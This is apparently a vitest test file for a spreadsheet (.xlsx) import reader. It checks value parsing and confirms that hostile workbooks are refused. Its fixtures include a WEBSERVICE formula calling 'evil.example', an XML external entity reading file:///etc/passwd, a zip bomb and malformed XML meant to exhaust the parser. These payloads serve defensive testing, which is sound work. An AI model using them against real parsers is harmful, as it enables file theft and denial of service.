import { gzipSync, strToU8, zipSync } from "fflate";
import { describe, expect, test } from "vitest";
import { readImportFile } from "./read-import-file.ts";
import { packXlsx, writeXlsx, xlsxParts } from "./xlsx.fixture.ts";
import { checkedWorkbook, xlsxLimits } from "./xlsx-limits.ts";

const sheet1 = "xl/worksheets/sheet1.xml";
const plain = xlsxParts([
  {
    name: "Scores",
    rows: [
      ["Shooter", "Week 1"],
      ["Ann Lee", 20],
    ],
  },
]);

async function read(bytes: Uint8Array) {
  const book = await readImportFile("season.xlsx", bytes);
  return "message" in book ? book.message : book.sheets.map(({ name, lines }) => ({ name, lines }));
}

/** The workbook with the first tab's XML changed. */
function withSheet(change: (xml: string) => string): Uint8Array {
  return packXlsx({ ...plain, [sheet1]: change(plain[sheet1] ?? "") });
}

describe("a workbook", () => {
  test("comes as texts: whole numbers, dates, times, results of formulas, several tabs, blank rows at their place", async () => {
    const bytes = writeXlsx([
      {
        name: "Fall & Winter",
        rows: [["Night", new Date(Date.UTC(2026, 0, 7))], [], ["René", 24, { formula: "B3*2", value: 48 }]],
      },
      { name: "Empty", rows: [] },
      { name: "Two", rows: [[19.333333333333332, new Date(Date.UTC(1899, 11, 30, 19, 5))]] },
    ]);
    expect(await read(bytes)).toEqual([
      {
        name: "Fall & Winter",
        lines: [
          ["Night", "2026-01-07", ""],
          ["", "", ""],
          ["René", "24", "48"],
        ],
      },
      { name: "Two", lines: [["19.333333", "19:05"]] },
    ]);
  });

  test("a formula stands for the value it last had, and its text for nothing", async () => {
    const evil = withSheet((xml) =>
      xml.replace("<v>20</v>", '<f>WEBSERVICE("http://evil.example")</f><v>21</v>'),
    );
    expect(await read(evil)).toMatchObject([
      {
        lines: [
          ["Shooter", "Week 1"],
          ["Ann Lee", "21"],
        ],
      },
    ]);
  });

  test("an error of the spreadsheet is the text it shows, however the cell is written", async () => {
    for (const cell of [
      '<c r="B2" t="e"><v>#REF!</v></c>',
      '<c r="B2" s="1" t="e"><f>A9</f><v>#REF!</v></c>',
    ])
      expect(await read(withSheet((xml) => xml.replace(/<c r="B2">.*?<\/c>/, cell)))).toMatchObject([
        { lines: [expect.anything(), ["Ann Lee", "#REF!"]] },
      ]);
  });

  test("a formula that no program has calculated says so, a calculated one is its value", async () => {
    const cell = (xml: string) => withSheet((sheet) => sheet.replace(/<c r="B2">.*?<\/c>/, xml));
    const stale = (xml: string) =>
      packXlsx({
        ...plain,
        "xl/workbook.xml": (plain["xl/workbook.xml"] ?? "").replace(
          "</workbook>",
          '<calcPr fullCalcOnLoad="1"/></workbook>',
        ),
        [sheet1]: (plain[sheet1] ?? "").replace(/<c r="B2">.*?<\/c>/, xml),
      });
    const sum = "<f>SUM(C2:D2)</f>";
    for (const [bytes, text] of [
      [cell(`<c r="B2">${sum}<v></v></c>`), "#NOT CALCULATED"],
      [cell(`<c r="B2">${sum}<v/></c>`), "#NOT CALCULATED"],
      [cell(`<c r="B2">${sum}</c>`), "#NOT CALCULATED"],
      [stale(`<c r="B2">${sum}<v>0</v></c>`), "#NOT CALCULATED"],
      [stale(`<c r="B2">${sum}<v>22</v></c>`), "22"],
      [stale('<c r="B2"><v>0</v></c>'), "0"],
      [cell(`<c r="B2">${sum}<v>0</v></c>`), "0"],
      [cell(`<c r="B2" t="str">${sum}<v></v></c>`), ""],
    ] as const)
      expect(await read(bytes)).toMatchObject([{ lines: [expect.anything(), ["Ann Lee", text]] }]);
  });

  test("cells that are never closed are looked at once each", () => {
    const many = '<c r="A3" t="e"><v>'.repeat(100_000);
    const bytes = withSheet((xml) => xml.replace("</sheetData>", `<row r="3">${many}</row></sheetData>`));
    const started = performance.now();
    checkedWorkbook(bytes);
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  test("cells that only have a color, and rows of them, are no data however far they are", async () => {
    const colored = withSheet((xml) =>
      xml.replace("</sheetData>", '<row r="1048576" s="1"><c r="XFD1048576" s="1"/></row></sheetData>'),
    );
    expect(await read(colored)).toMatchObject([
      {
        lines: [
          ["Shooter", "Week 1"],
          ["Ann Lee", "20"],
        ],
      },
    ]);
  });
});

describe("a hostile workbook", () => {
  test.each([
    ["a row a billion rows down", '<row r="1000000000"><c r="A1000000000"><v>1</v></c></row>', "can open"],
    ["a row past the limit", `<row r="${xlsxLimits.rows + 1}"><c><v>1</v></c></row>`, "20,000 rows"],
    ["a cell past the limit of rows", '<row r="3"><c r="A20001"><v>1</v></c></row>', "20,000 rows"],
    ["a cell in the last column of Excel", '<row r="3"><c r="XFD3"><v>1</v></c></row>', "300 columns"],
    ["a place written in signs", '<row r="&#57;9999"><c r="A3"><v>1</v></c></row>', "can open"],
    [
      "a place behind a > in another attribute",
      '<row x=">" r="99999999"><c r="A3"><v>1</v></c></row>',
      "can open",
    ],
    ["a place in a namespace", '<x:row x:r="99999"><x:c r="A3"><v>1</v></x:c></x:row>', "20,000 rows"],
  ])("is refused for %s", async (_, row, sentence) => {
    expect(await read(withSheet((xml) => xml.replace("</sheetData>", `${row}</sheetData>`)))).toContain(
      sentence,
    );
  });

  test("is refused for more cells than the limit", async () => {
    const row = (at: number) => `<row r="${at}">${"<c><v>1</v></c>".repeat(250)}</row>`;
    const rows = Array.from({ length: 1700 }, (_, index) => row(index + 3)).join("");
    expect(await read(withSheet((xml) => xml.replace("</sheetData>", `${rows}</sheetData>`)))).toContain(
      "400,000 cells",
    );
  });

  test("is refused for entities, its own or those of another place", async () => {
    const entity = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>';
    expect(await read(withSheet((xml) => xml.replace("?>", `?>${entity}`)))).toContain("can open");
    const shared = { ...plain, "xl/sharedStrings.xml": `${entity}<sst><si><t>&a;</t></si></sst>` };
    expect(await read(packXlsx(shared))).toContain("can open");
  });

  test("is refused when it unpacks to more than the limit, before it is unpacked", async () => {
    const bomb = zipSync({
      ...Object.fromEntries(Object.entries(plain).map(([path, text]) => [path, strToU8(text)])),
      "xl/bomb.xml": [new Uint8Array(xlsxLimits.unpackedBytes), { level: 1 }],
    });
    expect(bomb.length).toBeLessThan(1024 * 1024);
    expect(await read(bomb)).toContain("too large when unpacked");
  });

  test("is refused for too many tabs or files", async () => {
    const tabs = Array.from({ length: xlsxLimits.tabs + 1 }, (_, index) => ({
      name: `T${index}`,
      rows: [["a"]],
    }));
    expect(await read(writeXlsx(tabs))).toContain("60 tabs");
    const files = Object.fromEntries(
      Array.from({ length: xlsxLimits.files }, (_, index) => [`x/${index}.xml`, "<x/>"]),
    );
    expect(await read(packXlsx({ ...plain, ...files }))).toContain("can open");
  });

  test.each([
    ["cut off", writeXlsx([{ name: "A", rows: [["a"]] }]).slice(0, 400)],
    ["another archive", zipSync({ "readme.xml": strToU8("<a/>") })],
    ["no XML inside", packXlsx({ ...plain, [sheet1]: "not xml" })],
  ])("that is %s is a sentence", async (_, bytes) => {
    expect(await read(bytes)).toMatch(/In Excel: File, Save As/);
  });

  test.each([
    ["content.xml", "LibreOffice Calc (.ods)"],
    ["Index/Document.iwa", "Apple Numbers (.numbers)"],
    ["xl/workbook.bin", "Excel's binary format (.xlsb)"],
  ])("of another program, with %s, names it", async (name, program) => {
    expect(await read(zipSync({ [name]: strToU8("<a/>") }))).toContain(`This is a file of ${program}.`);
  });

  test.each([
    ["%PDF-1.7", "a PDF"],
    ["<html><table><tr><td>Ann</td></tr></table>", "a web page or XML"],
    ["{\\rtf1", "a text document"],
  ])("a file that begins %s is named", async (start, what) => {
    expect(await read(strToU8(start))).toContain(`This file is ${what}`);
  });

  test("a compressed file, as Gnumeric writes them, is told what to do", async () => {
    expect(await read(gzipSync(strToU8("<gnm:Workbook/>")))).toContain(
      "This file is compressed, or saved by Gnumeric. Open it in your spreadsheet program",
    );
  });

  test("an old Excel file is told what to do", async () => {
    expect(await read(new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1]))).toContain("Excel Workbook (.xlsx)");
  });
});
